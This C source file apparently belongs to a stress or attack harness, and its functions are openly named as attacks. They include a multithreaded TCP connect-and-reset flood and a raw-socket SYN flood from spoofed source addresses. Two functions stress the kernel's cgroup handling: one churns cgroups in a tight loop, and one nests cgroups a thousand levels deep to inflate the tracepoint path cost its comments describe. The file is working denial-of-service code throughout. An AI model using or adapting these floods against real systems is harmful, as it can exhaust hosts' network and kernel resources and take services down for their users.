#include "segment.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static struct target flooded;
static atomic_long rest;
static atomic_long begun;
static atomic_long refused;

/* Connects without waiting and resets at once, as fast as it goes; a proper close
 * would soon run out of ports.
 */
static void *flood(void *nothing)
{
	struct linger reset = { .l_onoff = 1 };

	while (atomic_fetch_sub(&rest, 1) > 0) {
		int fd = socket(flooded.any.sa_family, SOCK_STREAM | SOCK_NONBLOCK, 0);

		if (connect(fd, &flooded.any, flooded.length) == 0 || errno == EINPROGRESS)
			atomic_fetch_add(&begun, 1);
		else
			atomic_fetch_add(&refused, 1);
		setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
		close(fd);
	}
	return nothing;
}

/* ADDRESS PORT CONNECTS THREADS */
void attack_flood(char **argument)
{
	long threads = atol(argument[3]);
	pthread_t thread[16];

	flooded = parse_target(argument[0], argument[1]);
	rest = atol(argument[2]);
	if (threads > 16)
		threads = 16;
	for (long i = 0; i < threads; i++)
		pthread_create(&thread[i], NULL, flood, NULL);
	for (long i = 0; i < threads; i++)
		pthread_join(thread[i], NULL);
	printf("%ld begun, %ld refused\n", begun, refused);
}

/* ADDRESS PORT SECONDS: SYNs from 200 addresses that no host has. More would fill the
 * neighbour table of this machine, which is no part of the attack.
 */
void attack_half_open(char **argument)
{
	struct target target = parse_target(argument[0], argument[1]);
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	long end = now_ms() + atol(argument[2]) * 1000;
	uint32_t sent = 0, dropped = 0;

	if (fd < 0)
		broken("raw socket", errno);
	while (now_ms() < end) {
		char address[32];
		struct target source;
		struct packet packet;

		snprintf(address, sizeof(address), "10.88.9.%u", sent % 200 + 10);
		source = parse_target(address, "0");
		source.v4.sin_port = htons((uint16_t)(1024 + sent / 200 % 60000));
		packet = make_segment(source, target, TH_SYN, sent * 7919u, 0, "");
		if (sendto(fd, packet.bytes, packet.length, 0, &target.any, target.length) < 0) {
			if (!sent)
				fail("send", errno);
			dropped++;
		}
		sent++;
	}
	printf("%u SYNs sent, %u not\n", sent - dropped, dropped);
}

/* DIRECTORY COUNT: makes and removes so many cgroups below. */
void attack_churn(char **argument)
{
	int directory = open(argument[0], O_RDONLY | O_DIRECTORY);
	long count = atol(argument[1]);

	for (long made = 0; made < count; made++)
		if (mkdirat(directory, "churn", 0755) < 0 || unlinkat(directory, "churn", AT_REMOVEDIR) < 0)
			broken("churn", errno);
	printf("made %ld\n", count);
}

/* Levels of the first tree and the last one, and of those between them. For a tracepoint the kernel writes out the path of
 * each cgroup that is made, entered or left. A path takes it the square of its levels: a tree of a thousand takes seconds.
 * The first is there to be left, and the last to be asked from.
 */
#define DEEPEST 1000
#define DEEP 100

/* DIRECTORY COUNT ADDRESS PORT: makes cgroups in trees, up to a thousand levels deep. Moves into the deepest cgroup of each
 * hundred and connects there, and asks from the last.
 */
void attack_nest(char **argument)
{
	struct target target = parse_target(argument[2], argument[3]);
	long count = atol(argument[1]), made = 0;
	int fd = -1;

	for (int tree = 0; made < count; tree++) {
		int directory = open(argument[0], O_RDONLY | O_DIRECTORY);
		int levels = tree && count - made > DEEPEST ? DEEP : DEEPEST;

		for (int level = 0; level < levels && made < count; level++, made++) {
			char child[8];
			int next;

			snprintf(child, sizeof(child), "%d", level ? 0 : tree);
			if (mkdirat(directory, child, 0755) < 0)
				broken("mkdir", errno);
			next = openat(directory, child, O_RDONLY | O_DIRECTORY);
			close(directory);
			directory = next;
			if (made % 100 == 99) {
				int procs = openat(directory, "cgroup.procs", O_WRONLY);

				if (procs < 0 || write(procs, "0", 1) != 1)
					broken("move", errno);
				close(procs);
				if (fd >= 0)
					close(fd);
				fd = make_stream(target.any.sa_family, 0);
				if (connect(fd, &target.any, target.length) < 0)
					fail("connect", errno);
			}
		}
		close(directory);
	}
	if (fd < 0)
		broken("nest", EINVAL);
	ask(fd);
}
